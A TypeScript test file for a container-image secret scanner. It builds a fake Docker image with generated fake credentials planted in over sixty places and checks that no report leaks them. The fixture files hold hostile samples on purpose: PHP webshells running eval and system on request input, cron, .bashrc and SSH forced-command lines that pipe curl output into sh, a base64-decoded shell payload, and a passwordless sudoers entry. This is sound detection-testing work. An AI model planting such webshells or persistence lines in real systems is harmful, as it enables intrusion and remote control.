import { createHash } from 'node:crypto';
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { zstdDecompressSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { base62Checksum } from '../../src/secrets/checksums.ts';
import { type FakeEngine, inspectAnswer, startFakeEngine } from '../support/fake-engine.ts';
import { dockerArchive, layer, sha256 } from '../support/image.ts';
import { noise } from '../support/noise.ts';
import { runDrydock } from '../support/run.ts';
import { temporaryFolder } from '../support/temporary.ts';

// Put together when the test runs: nobody issued them, and no other scanner finds them in this file.
const planted = new Map<string, string>();

/** Letters and digits of each place, which look drawn at random. */
function drawn(place: string, length: number): string {
  const letters = 'ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnpqrstuvwxyz23456789';
  return [...createHash('sha512').update(place).digest().subarray(0, length)]
    .map((byte) => letters[byte % letters.length])
    .join('');
}

/** A token of its own for each place. */
function token(place: string): string {
  const body = drawn(place, 30);
  const made = `gh${'p_'}${body}${base62Checksum(body)}`;
  planted.set(place, made);
  return made;
}

/** A password of its own for each place. */
function password(place: string): string {
  const made = `k7Q${drawn(place, 11)}`;
  planted.set(place, made);
  return made;
}

const base64 = (text: string): string => Buffer.from(text).toString('base64');

function configuration(): Record<string, unknown> {
  return {
    author: `me <${token('author of the image')}@example.org>`,
    comment: `by ${token('comment of the image')}`,
    architecture: token('architecture'),
    os: 'linux',
    created: `2024 ${token('time of creation')}`,
    config: {
      Env: [
        `A_TOKEN=${token('variable')}`,
        `DOCKER_AUTH_CONFIG={"auths":{"r.example":{"auth":"${base64(`ci:${password('login of a registry')}`)}"}}}`,
        `ENCODED=${base64(token('variable in base 64'))}`,
        `SHIFTED=${base64(`x: ${token('variable in the middle of base 64')}\n`)}`,
      ],
      Cmd: ['sh', '-c', `curl -u admin:${password('command')} http://db.internal/ | sh`],
      Entrypoint: ['mysql', '-uroot', `-p${password('entry point')}`],
      Healthcheck: { Test: ['CMD', 'curl', '-u', `admin:${password('health check')}`, 'http://localhost/'] },
      OnBuild: [`RUN curl -u admin:${password('trigger')} http://db.internal/x | sh`],
      Labels: {
        'org.opencontainers.image.source': `https://ci:${password('label')}@git.internal/x`,
        'com.example.auth': `Basic ${base64(`admin:${password('label in base 64')}`)}`,
        [token('name of a label')]: '1',
      },
      User: token('user'),
      WorkingDir: `/srv/${token('working directory')}`,
      Volumes: { [`/data/${token('volume')}`]: {} },
      ExposedPorts: { [`${token('port')}/tcp`]: {} },
      StopSignal: token('signal'),
      Shell: ['/bin/sh', token('shell')],
      Hostname: token('host name'),
    },
  };
}

function history(): Record<string, unknown>[] {
  const glued = token('history, between quotes');
  const made = (created_by: string, more = {}): Record<string, unknown> => ({ created_by, empty_layer: true, ...more });
  return [
    { created_by: 'COPY . / # buildkit', comment: 'buildkit.dockerfile.v0' },
    made(`RUN /bin/sh -c curl -u admin:${password('history')} http://db.internal/x | sh # buildkit`, {
      comment: `by ${token('comment of an entry')}`,
      author: `https://me:${password('author of an entry')}@git.internal/`,
    }),
    made(
      `RUN /bin/sh -c wget --header "X: ${glued.slice(0, 12)}""${glued.slice(12)}" http://x.internal/i | sh # buildkit`,
    ),
    made(`RUN ["mysql","-uroot","-p${password('exec form')}","-e","x"]`),
    made(`/bin/sh -c #(nop)  CMD ["mysql" "-p${password('legacy exec form')}"]`),
    made(
      `HEALTHCHECK &{["CMD" "curl" "-u" "a:${password('legacy health check')}" "http://x"] "0s" "0s" "0s" "0s" '\\x00'}`,
    ),
    made(`/bin/sh -c #(nop)  ENTRYPOINT ["sh" "-c" "echo \\"${token('legacy entry point')}\\""]`),
    made(`RUN /bin/sh -c echo ${base64(token('history in base 64'))} | base64 -d | sh # buildkit`),
    made(`RUN /bin/sh -c git clone https://x:${password('address')}@git.internal/x /src && chmod 777 /src # buildkit`),
    made(`RUN /bin/sh -c useradd -p ${password('useradd')} app # buildkit`),
    made(`MAINTAINER ${token('maintainer')}`),
    made(`LABEL note=${token('label in the history')}`),
  ];
}

function files(): Parameters<typeof layer>[0] {
  const file = (at: string, content: string) => ({ path: at, content, mode: 0o755 });
  const json = (at: string, value: unknown) => file(at, JSON.stringify(value));
  return [
    file(
      'etc/os-release',
      `ID=weird\nVERSION_ID=${token('version of the distribution')}\nPRETTY_NAME="Weird ${token('name of the distribution')}"\nHOME_URL="https://a:${password('home of the distribution')}@x.internal/"\n`,
    ),
    file(
      'var/lib/dpkg/status',
      `Package: libx\nStatus: install ok installed\nPriority: optional\nSection: libs\nMaintainer: A <a:${token('maintainer of a package')}@x.example>\nArchitecture: amd64\nVersion: 1.0\nHomepage: https://ci:${password('home of a package')}@git.internal/x\nDescription: ${token('description of a package')}\n\n`,
    ),
    json('srv/node_modules/left/package.json', {
      name: 'left',
      version: '1.0.0',
      license: `SEE https://ci:${password('licence')}@git.internal/`,
      author: `A <${token('author of a package')}@x.example> (https://ci:${password('page of an author')}@x.internal)`,
      homepage: `https://ci:${password('home page of npm')}@git.internal/left`,
      repository: { type: 'git', url: `git+https://ci:${password('repository of npm')}@git.internal/left.git` },
      _resolved: `https://ci:${password('source of npm')}@registry.internal/left.tgz`,
    }),
    json('srv/package-lock.json', {
      name: 'srv',
      version: '1.0.0',
      lockfileVersion: 3,
      packages: {
        '': { name: 'srv', version: '1.0.0', dependencies: { right: '1.0.0' } },
        'node_modules/right': {
          version: '1.0.0',
          resolved: `https://ci:${password('lockfile')}@registry.internal/right.tgz`,
        },
        'node_modules/gitty': {
          version: `git+https://ci:${password('version in a lockfile')}@git.internal/gitty.git#0123456`,
          resolved: `git+https://ci:${password('git in a lockfile')}@git.internal/gitty.git#0123456`,
        },
      },
    }),
    file(
      'usr/lib/python3/site-packages/pyx-1.0.dist-info/METADATA',
      `Metadata-Version: 2.1\nName: pyx\nVersion: 1.0\nHome-page: https://ci:${password('home of Python')}@git.internal/x\nAuthor: ${token('author of Python')}\nLicense: ${token('licence of Python')}\nDownload-URL: https://ci:${password('download of Python')}@git.internal/x\n\n`,
    ),
    json('usr/lib/python3/site-packages/pyx-1.0.dist-info/direct_url.json', {
      url: `https://ci:${password('source of Python')}@git.internal/x.git`,
      vcs_info: { vcs: 'git', commit_id: '0123456789' },
    }),
    file(
      'etc/apt/sources.list',
      `deb https://ci:${password('repository of packages')}@deb.internal/debian bookworm main\n`,
    ),
    file('srv/requirements.txt', `other==1.0 # https://ci:${password('requirements')}@pypi.internal/\n`),
    file(
      'srv/Gemfile.lock',
      `GEM\n  remote: https://ci:${password('lockfile of Ruby')}@gems.internal/\n  specs:\n    rake (13.0.0)\n\nPLATFORMS\n  ruby\n\nDEPENDENCIES\n  rake\n`,
    ),
    json('srv/composer.lock', {
      packages: [
        {
          name: 'a/b',
          version: '1.0.0',
          source: { type: 'git', url: `https://ci:${password('lockfile of PHP')}@git.internal/b.git`, reference: 'x' },
          license: [token('licence of PHP')],
        },
      ],
    }),
    file(
      'var/www/shell.php',
      `<?php $auth_pass='${password('webshell')}'; $t='${token('token in a webshell')}'; @eval(base64_decode($_POST['x'])); system($_GET['cmd']); ?>\n`,
    ),
    file('var/www/other.php', `<?php eval($_POST['${token('parameter of a webshell')}']); ?>\n`),
    file(
      'etc/cron.d/job',
      `*/5 * * * * root curl -u admin:${password('cron')} http://x.internal/i | sh\n* * * * * root echo ${base64(token('cron in base 64'))} | base64 -d | sh\n`,
    ),
    file('etc/systemd/system/x.service', `[Service]\nExecStart=/usr/bin/mysql -p${password('unit')} -e x\n`),
    file('root/.bashrc', `curl -H "Authorization: Bearer ${token('startup')}" http://x.internal/i | sh\n`),
    file('etc/profile.d/x.sh', `export NODE_OPTIONS="--require /x?token=${token('environment')}"\n`),
    file(
      'root/.ssh/authorized_keys',
      `command="curl -u admin:${password('command of a key')} http://x.internal/ | sh" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEx ${token('comment of a key')}\n`,
    ),
    file('etc/sudoers', `${token('sudoers')} ALL=(ALL) NOPASSWD: ALL\n`),
    file('etc/hosts.allow', `ALL: ALL: spawn (curl -u a:${password('hosts.allow')} http://x.internal/i | sh)\n`),
    file(
      'srv/secret.yaml',
      `apiVersion: v1\ndata:\n  token: ${base64(token('Kubernetes'))}\nkind: Secret\nmetadata:\n  name: x\n`,
    ),
    file('root/.docker/config.json', `{"auths":{"r":{"auth":"${base64(`ci:${password('docker')}`)}"}}}`),
    // Layers that are as large are kept in the cache.
    { path: 'srv/noise', content: noise(400_000) },
    file('root/.netrc', `machine x.internal login ci password ${password('netrc')}\n`),
  ];
}

/** The ways in which a text may have a secret. */
function forms(secret: string): readonly string[] {
  const inBase64 = [0, 1, 2].map((shift) => {
    const encoded = base64(`${'x'.repeat(shift)}${secret}`);
    // Without what neighbours decide.
    return encoded.slice(shift === 0 ? 0 : 4, 4 * Math.floor((secret.length + shift) / 3));
  });
  return [secret, encodeURIComponent(secret), JSON.stringify(secret).slice(1, -1), ...inBase64];
}

/** A record of the layer cache: pieces of zstd, each behind its length. */
function unpacked(bytes: Buffer): string | undefined {
  const pieces: Buffer[] = [];
  for (let at = 0; at < bytes.length; ) {
    const size = bytes.length - at < 4 ? 0 : bytes.readUInt32LE(at);
    if (size === 0 || at + 4 + size > bytes.length || bytes.readUInt32LE(at + 4) !== 0xfd2fb528) return undefined;
    pieces.push(zstdDecompressSync(bytes.subarray(at + 4, at + 4 + size)));
    at += 4 + size;
  }
  return pieces.length === 0 ? undefined : `a record of the cache\n${Buffer.concat(pieces).toString('latin1')}`;
}

const formats = ['json', 'table', 'sarif', 'cyclonedx', 'spdx'];
let texts: Map<string, string>;
let engine: FakeEngine;

beforeAll(async () => {
  const folder = temporaryFolder();
  const image = path.join(folder, 'image.tar');
  const outputs = path.join(folder, 'out');
  mkdirSync(outputs);
  const only = layer(files());
  const rawConfig = Buffer.from(
    JSON.stringify({
      ...configuration(),
      rootfs: { type: 'layers', diff_ids: [sha256(only)] },
      history: history(),
    }),
  );
  const archive = dockerArchive({ layers: [only], layout: 'blobs', compression: 'gzip', rawConfig });
  writeFileSync(image, archive);
  const id = sha256(rawConfig);
  engine = await startFakeEngine({
    answers: {
      '/images/example:1/json': { json: inspectAnswer(id, rawConfig, ['example:1']) },
      '/images/example:1/get': { body: archive },
      [`/images/${id}/get`]: { body: archive },
    },
  });
  const kept = ['--cache-dir', path.join(outputs, 'cache'), '--db', path.join(outputs, 'db.sqlite')];
  const commands: Readonly<Record<string, readonly string[]>> = {
    scan: [
      'scan',
      image,
      '--offline',
      '-v',
      '--deep',
      '--list-packages',
      ...kept,
      ...formats.flatMap((format) => ['-o', `${format}=${path.join(outputs, `report.${format}`)}`]),
    ],
    table: ['history', image],
    history: ['history', image, '-f', 'json'],
    dockerfile: ['history', image, '-f', 'dockerfile'],
    layers: ['layers', image],
    'layers.json': ['layers', image, '-f', 'json'],
    engine: ['scan', 'docker:example:1', '--offline', '-o', `json=${path.join(outputs, 'engine.json')}`, ...kept],
    'engine.history': ['history', 'docker:example:1', '--offline', '-f', 'json'],
    diff: ['diff', image, image],
    explain: ['explain', path.join(outputs, 'report.json')],
    'sbom.cyclonedx': ['sbom', image, '-f', 'cyclonedx'],
    'sbom.spdx': ['sbom', image, '-f', 'spdx'],
  };
  texts = new Map();
  for (const [name, words] of Object.entries(commands)) {
    const { stdout, stderr } = await runDrydock([...words], {
      folder: outputs,
      environment: engine.environment,
      timeout: 110_000,
    });
    texts.set(name, stdout + stderr);
  }
  for (const entry of readdirSync(outputs, { recursive: true, withFileTypes: true })) {
    if (!entry.isFile()) continue;
    const bytes = readFileSync(path.join(entry.parentPath, entry.name));
    texts.set(entry.name, unpacked(bytes) ?? bytes.toString('latin1'));
  }
}, 300_000);

afterAll(async () => await engine.close());

describe('a secret', () => {
  it('stands nowhere, wherever in an image it stood', () => {
    expect(planted.size).toBeGreaterThan(60);
    expect(texts.get('dockerfile')).toContain('RUN ["mysql","-uroot","-p…","-e","x"]');
    expect(texts.get('engine.history')).toContain('git clone');
    expect([...texts.values()].filter((text) => text.startsWith('a record of the cache')).length).toBeGreaterThan(0);
    for (const name of ['report.json', 'engine.json']) {
      const { findings } = JSON.parse(texts.get(name) ?? '') as { readonly findings: readonly { kind: string }[] };
      const kinds = new Set(findings.map(({ kind }) => kind));
      expect([...kinds]).toEqual(expect.arrayContaining(['secret', 'webshell', 'history', 'persistence']));
    }
    const leaks = [...planted].flatMap(([place, secret]) => {
      const where = [...texts].filter(([, text]) => forms(secret).some((form) => text.includes(form)));
      return where.length === 0 ? [] : [`${place}: ${where.map(([name]) => name).join(', ')}`];
    });
    expect(leaks).toEqual([]);
  });
});
